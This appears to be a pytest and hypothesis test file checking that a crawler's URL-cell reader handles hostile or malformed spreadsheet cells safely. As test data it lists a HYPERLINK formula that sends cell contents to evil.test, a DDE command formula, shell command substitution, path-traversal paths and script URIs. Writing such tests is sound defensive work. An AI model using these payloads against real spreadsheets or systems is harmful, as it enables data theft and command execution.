"""Cells that want to break the reader."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from crawler.urls import parse_url, read_url_cell
from crawler.urls.problems import PROBLEMS
from crawler.urls.read import ON_PLAIN, PLAIN, PROPOSED

CELLS = [
    '<a href="https://evil.test">Official site</a>',
    "+1+1",
    "-",
    "-5",
    "@university",
    "../../etc/cron.d/x",
    "..\\..\\windows\\x",
    "/etc/passwd",
    "aux.csv",
    "a\nb",
    "-rf",
    "~root",
    "report\u202efdp.html",
    "$(touch x)`id`",
    '=HYPERLINK("http://evil.test/?x="&A1&A2,"click")',
    "=cmd|' /C calc'!A0",
    "\0",
    "\ud800",
    "https://uni.pl/\udfff\ud800",
    "http://" + "a." * 2000 + "pl/",
    "http://" + "@" * 4000,
    "[" * 4000 + "](" + "https://uni.pl/)",
    "<a " * 2500,
    "%25" * 2500,
    "https://uni.pl/" + "%C3" * 2500,
    "https:" * 1300,
    "www." * 2000,
    " a" * 4000,
    "http://xn--" + "9" * 5000 + ".pl/",
    "https://uni.pl/?" + "a=1&" * 2000,
    "1" * 8000,
    "x" * 1_000_000,
    "\u202e" * 1_000_000,
]

PIECES = [
    *("http", "https", "www.", "uni", ".pl", "edu", "rn", "%2", "%C3", "://", "...", "&amp;", "//"),
    *':/., \n#?&=@()[]<>"\\;1–аı\u200b',
]
url_like = st.lists(st.sampled_from(PIECES), max_size=14).map("".join)


@pytest.mark.parametrize("cell", CELLS, ids=range(len(CELLS)))
def test_no_cell_breaks_the_reader(cell: str) -> None:
    target = read_url_cell("1", cell)
    assert target.given == cell
    assert target.url is None or parse_url(target.url) == target.url
    assert target.problem is None or target.problem in PROBLEMS


def test_a_script_in_a_cell_gives_no_link() -> None:
    assert read_url_cell("1", "javascript:alert('https://uni.pl/')").url is None
    assert read_url_cell("1", "data:text/html,<script>https://uni.pl/</script>").url is None


@given(url_like | st.text(max_size=60))
@example("https://uni.pl/%2e%2e")
@example("https://uni%2Epl./,")
@example("http:http#")
def test_reading_what_was_read_changes_nothing(cell: str) -> None:
    target = read_url_cell("1", cell)
    for url in (target.url, *target.proposed):
        assert url is None or parse_url(url) == url
    if target.url is not None:
        assert read_url_cell("1", target.url).url == target.url


@given(url_like)
def test_what_a_person_must_decide_is_not_done(cell: str) -> None:
    target = read_url_cell("1", cell)
    done = [repair for repair in target.repairs if not repair.needs_person]
    if target.url is not None and not done:
        assert target.url == parse_url(cell)
    if target.proposed:
        assert any(repair.needs_person for repair in target.repairs)
        assert target.url not in target.proposed


@given(st.from_regex(PLAIN, fullmatch=True))
@example("http://wwwuni.edupl/start/index.html-")
@example("https://www.uni-dot-www.cm/https.~a+/")
def test_what_is_not_tried_on_a_plain_link_would_not_apply(link: str) -> None:
    assert [rule.name for rule in PROPOSED if rule not in ON_PLAIN and rule.read(link)] == []
